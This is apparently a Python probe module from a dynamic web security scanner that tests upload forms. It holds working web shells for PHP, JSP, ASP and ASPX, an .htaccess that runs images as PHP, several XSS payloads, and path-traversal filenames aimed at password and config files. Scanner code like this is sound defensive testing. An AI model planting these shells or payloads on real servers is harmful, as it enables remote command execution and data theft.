"""
File upload probe.

Uploads dangerous files to upload forms and common endpoints, then tries to
fetch them back from the usual storage locations.
"""

import logging
import re
from dataclasses import dataclass

from dast_scanner.models import Finding, FormInfo, ProbeResponse, Severity
from dast_scanner.probes.base import BROKEN_ACCESS, INJECTION, ProbeContext

logger = logging.getLogger(__name__)

NAME = "upload"


@dataclass(frozen=True)
class MaliciousFile:
    name: str
    content: str
    content_type: str
    risk: Severity


MALICIOUS_FILES = [
    MaliciousFile("shell.php", '<?php system($_GET["cmd"]); ?>', "application/x-php", Severity.CRITICAL),
    MaliciousFile("shell.jsp", '<% Runtime.getRuntime().exec(request.getParameter("cmd")); %>',
                  "application/x-jsp", Severity.CRITICAL),
    MaliciousFile("shell.asp", '<% eval request("cmd") %>', "application/x-asp", Severity.CRITICAL),
    MaliciousFile("shell.aspx",
                  '<%@ Page Language="C#" %><% System.Diagnostics.Process.Start(Request["cmd"]); %>',
                  "application/x-aspx", Severity.CRITICAL),
    MaliciousFile("malicious.html", '<script>alert("XSS")</script>', "text/html", Severity.HIGH),
    MaliciousFile("malicious.svg", '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
                  "image/svg+xml", Severity.HIGH),
    MaliciousFile(
        "malicious.pdf",
        "%PDF-1.4\n1 0 obj\n<<\n/Type /Catalog\n/Pages 2 0 R\n/OpenAction 3 0 R\n>>\nendobj\n"
        "2 0 obj\n<<\n/Type /Pages\n/Kids []\n/Count 0\n>>\nendobj\n"
        "3 0 obj\n<<\n/S /JavaScript\n/JS (app.alert(\"XSS\"))\n>>\nendobj\n"
        "xref\n0 4\n0000000000 65535 f\n0000000009 00000 n\n0000000058 00000 n\n"
        "0000000115 00000 n\ntrailer\n<<\n/Size 4\n/Root 1 0 R\n>>\nstartxref\n190\n%%EOF",
        "application/pdf",
        Severity.MEDIUM,
    ),
    MaliciousFile("double_extension.php.jpg", '<?php system($_GET["cmd"]); ?>', "image/jpeg", Severity.HIGH),
    MaliciousFile("null_byte.php%00.jpg", '<?php echo "shell"; ?>', "image/jpeg", Severity.HIGH),
    MaliciousFile(".htaccess", "AddType application/x-httpd-php .jpg\nphp_flag engine on",
                  "text/plain", Severity.CRITICAL),
]

UPLOAD_ENDPOINTS = ["/upload", "/api/upload", "/api/files", "/files/upload", "/attachments"]

SVG_XSS_PAYLOADS = [
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><image href="x" onerror="alert(1)"/></svg>',
    '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><foreignObject>'
    '<body xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></body></foreignObject></svg>',
]

TRAVERSAL_FILENAMES = [
    "../../../etc/passwd",
    "..\\..\\..\\windows\\system32\\config\\sam",
    "../../../var/www/html/config.php",
    "....//....//....//etc/passwd",
]

UPLOAD_SUCCESS_INDICATORS = ["upload successful", "file uploaded", "success", "200", "location"]
TRAVERSAL_INDICATORS = ["permission denied", "file exists", "already exists", "overwrite"]

FILE_URL_PATTERNS = [
    re.compile(r"[\"'](/[^\"']*uploads?/[^\"']*)[\"']", re.I),
    re.compile(r"[\"'](/[^\"']*files?/[^\"']*)[\"']", re.I),
    re.compile(r"[\"'](/[^\"']*attachments?/[^\"']*)[\"']", re.I),
    re.compile(r"[\"'](/[^\"']*storage/[^\"']*)[\"']", re.I),
    re.compile(r"[\"'](/[^\"']*media/[^\"']*)[\"']", re.I),
    re.compile(r"[\"'](/[^\"']*assets/[^\"']*)[\"']", re.I),
]


def candidate_file_urls(response_body: str, filename: str) -> list[str]:
    """Paths mentioned in the upload response plus the usual storage locations."""
    urls = []
    for pattern in FILE_URL_PATTERNS:
        urls.extend(pattern.findall(response_body))
    urls.extend([f"/uploads/{filename}", f"/files/{filename}", f"/attachments/{filename}"])
    return list(dict.fromkeys(urls))


def upload_endpoints(forms: list[FormInfo]) -> list[str]:
    from_forms = [f.action or "/upload" for f in forms if f.enctype == "multipart/form-data"]
    return list(dict.fromkeys(from_forms + UPLOAD_ENDPOINTS))


def upload_accepted(file: MaliciousFile, response: ProbeResponse) -> bool:
    if response.status in (200, 201):
        return True
    body = response.body.lower()
    return any(i in body for i in UPLOAD_SUCCESS_INDICATORS + [file.name.lower()])


def evaluate_stored(endpoint: str, file: MaliciousFile, file_url: str, content: str) -> Finding | None:
    """The uploaded file is served back verbatim."""
    if file.content[:30] not in content:
        return None
    return Finding(
        severity=file.risk,
        title="Unrestricted File Upload",
        description=f'Server accepts and stores executable file "{file.name}"',
        url=endpoint,
        evidence=f"File accessible at: {file_url}",
        cwe="CWE-434",
        owasp=BROKEN_ACCESS,
        recommendation="Validate file extensions, MIME types, and content. Store uploads outside web root.",
    )


def evaluate_accepted(endpoint: str, file: MaliciousFile, response: ProbeResponse) -> Finding | None:
    if file.risk not in (Severity.CRITICAL, Severity.HIGH) or not upload_accepted(file, response):
        return None
    return Finding(
        severity=Severity.HIGH,
        title="Potential Unrestricted File Upload",
        description=f'Server accepted potentially dangerous file "{file.name}"',
        url=endpoint,
        evidence=f"Response status: {response.status}",
        cwe="CWE-434",
        owasp=BROKEN_ACCESS,
        recommendation="Implement strict file type validation and content inspection",
    )


def evaluate_svg_xss(endpoint: str, payload: str, response: ProbeResponse) -> Finding | None:
    if response.status not in (200, 201):
        return None
    return Finding(
        severity=Severity.HIGH,
        title="SVG XSS Upload",
        description=f'Server accepts SVG files with embedded JavaScript at "{endpoint}"',
        url=endpoint,
        payload=payload,
        cwe="CWE-79",
        owasp=INJECTION,
        recommendation="Sanitize SVG files or serve them with Content-Disposition: attachment",
    )


def evaluate_traversal_filename(endpoint: str, filename: str, response: ProbeResponse) -> Finding | None:
    body = response.body.lower()
    indicators = TRAVERSAL_INDICATORS + [filename.split("/")[-1]]
    if not any(indicator.lower() in body for indicator in indicators):
        return None
    return Finding(
        severity=Severity.CRITICAL,
        title="Path Traversal in File Upload",
        description=f'Filename path traversal may be possible at "{endpoint}"',
        url=endpoint,
        evidence=f"Filename: {filename}",
        cwe="CWE-22",
        owasp=BROKEN_ACCESS,
        recommendation="Sanitize filenames and validate upload paths",
    )


async def run(ctx: ProbeContext) -> None:
    forms: list[FormInfo] = []
    browser = ctx.require_browser(NAME)
    if browser is not None:
        home = await browser.visit("/")
        if home is not None:
            forms = home.forms

    for endpoint in upload_endpoints(forms):
        for file in MALICIOUS_FILES:
            response = await ctx.http.post(
                endpoint,
                files={"file": (file.name, file.content, file.content_type)},
                timeout=15,
            )
            if response is None:
                continue

            for file_url in candidate_file_urls(response.body, file.name):
                stored = await ctx.http.get(file_url, timeout=5)
                if stored is None or stored.status != 200:
                    continue
                finding = evaluate_stored(endpoint, file, file_url, stored.body)
                if finding:
                    ctx.report([finding])

            finding = evaluate_accepted(endpoint, file, response)
            if finding:
                ctx.report([finding])

    for endpoint in UPLOAD_ENDPOINTS:
        for payload in SVG_XSS_PAYLOADS:
            response = await ctx.http.post(
                endpoint,
                files={"file": ("xss.svg", payload, "image/svg+xml")},
                timeout=10,
            )
            if response is None:
                continue
            finding = evaluate_svg_xss(endpoint, payload, response)
            if finding:
                ctx.report([finding])

    for endpoint in UPLOAD_ENDPOINTS:
        for filename in TRAVERSAL_FILENAMES:
            response = await ctx.http.post(
                endpoint,
                files={"file": (filename, "test content", "text/plain")},
                timeout=10,
            )
            if response is None:
                continue
            finding = evaluate_traversal_filename(endpoint, filename, response)
            if finding:
                ctx.report([finding])
